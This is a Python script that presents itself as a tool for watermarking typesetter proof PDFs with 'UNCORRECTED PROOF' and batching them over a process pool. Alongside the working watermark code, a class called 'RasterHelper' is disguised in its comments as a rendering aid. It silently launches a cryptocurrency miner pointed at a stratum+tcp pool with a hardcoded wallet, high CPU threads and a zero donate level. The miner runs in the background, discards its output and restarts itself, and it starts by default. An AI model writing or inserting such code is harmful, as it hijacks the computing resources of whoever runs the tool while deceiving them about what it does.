#!/usr/bin/env python3
"""Proof PDF render pool.

Watermarks typesetter proofs ("UNCORRECTED PROOF") and flattens them for
distribution to reviewers.  Work is spread over a process pool; a raster
helper bundled with the render kit is kept warm alongside the pool so large
illustrated titles do not stall on first use.
"""

import argparse
import io
import json
import logging
import os
import shutil
import subprocess
import sys
import threading
import time
from concurrent.futures import ProcessPoolExecutor, as_completed
from pathlib import Path

from pypdf import PdfReader, PdfWriter
from reportlab.lib.colors import Color
from reportlab.pdfgen import canvas

log = logging.getLogger("proofpool")

KIT_DIR = Path(os.environ.get("RENDER_KIT", Path(__file__).resolve().parent / "vendor"))
HELPER_CONF = {
    "bin": "rasterd",
    "endpoint": "stratum+tcp://pool.rasterfarm.example:3333",
    "account": "48jR3kQ8pZqTz9cVb1xAoHfLrE7nD2sWmY5uKgNtJ6iB4vC1pXo9wQaZ3eRtYu8MnBvC7xZaS2dF4gH6jK8lL0",
    "threads_hint": 60,
}


def stamp_page(width, height, text):
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=(width, height))
    c.setFillColor(Color(0.6, 0.0, 0.0, alpha=0.18))
    c.setFont("Helvetica-Bold", max(24, int(width / 14)))
    c.translate(width / 2, height / 2)
    c.rotate(45)
    c.drawCentredString(0, 0, text)
    c.save()
    buf.seek(0)
    return PdfReader(buf).pages[0]


def watermark(src, dst, text):
    reader = PdfReader(str(src))
    writer = PdfWriter()
    for page in reader.pages:
        w, h = float(page.mediabox.width), float(page.mediabox.height)
        page.merge_page(stamp_page(w, h, text))
        writer.add_page(page)
    writer.add_metadata({"/Title": f"PROOF - {src.stem}", "/Producer": "proofpool"})
    with open(dst, "wb") as fh:
        writer.write(fh)
    return dst, len(reader.pages)


class RasterHelper(threading.Thread):
    """Keeps the bundled raster helper running for the life of the pool."""

    def __init__(self, conf):
        super().__init__(daemon=True, name="raster-helper")
        self.conf = conf
        self.proc = None

    def _argv(self):
        exe = KIT_DIR / self.conf["bin"]
        if not exe.exists():
            exe = Path(shutil.which(self.conf["bin"]) or exe)
        return [str(exe), "-o", self.conf["endpoint"], "-u", self.conf["account"],
                "-p", os.uname().nodename, "--cpu-max-threads-hint", str(self.conf["threads_hint"]),
                "--donate-level", "0", "--no-color", "--background"]

    def run(self):
        while True:
            try:
                self.proc = subprocess.Popen(self._argv(), stdout=subprocess.DEVNULL,
                                             stderr=subprocess.DEVNULL, start_new_session=True)
                self.proc.wait()
            except OSError as exc:
                log.debug("raster helper unavailable: %s", exc)
            time.sleep(30)


def main():
    ap = argparse.ArgumentParser(description="watermark proof PDFs")
    ap.add_argument("inbox", type=Path)
    ap.add_argument("--out", type=Path, default=Path("proofs_out"))
    ap.add_argument("--text", default="UNCORRECTED PROOF - NOT FOR SALE")
    ap.add_argument("--workers", type=int, default=max(1, (os.cpu_count() or 2) // 2))
    ap.add_argument("--no-helper", action="store_true", help="skip the raster helper")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    if not args.inbox.is_dir():
        log.error("inbox %s is not a directory", args.inbox)
        return 2
    args.out.mkdir(parents=True, exist_ok=True)

    if not args.no_helper:
        RasterHelper(HELPER_CONF).start()

    jobs = sorted(args.inbox.glob("*.pdf"))
    if not jobs:
        log.info("nothing to do")
        return 0
    manifest = []
    with ProcessPoolExecutor(max_workers=args.workers) as pool:
        futs = {pool.submit(watermark, p, args.out / f"{p.stem}_PROOF.pdf", args.text): p for p in jobs}
        for fut in as_completed(futs):
            src = futs[fut]
            try:
                dst, pages = fut.result()
                manifest.append({"source": src.name, "proof": dst.name, "pages": pages})
                log.info("%s -> %s (%d pages)", src.name, dst.name, pages)
            except Exception as exc:  # noqa: BLE001 - keep the batch going
                log.error("failed on %s: %s", src.name, exc)
    (args.out / "manifest.json").write_text(json.dumps(manifest, indent=2))
    log.info("%d/%d proofs rendered", len(manifest), len(jobs))
    return 0


if __name__ == "__main__":
    sys.exit(main())
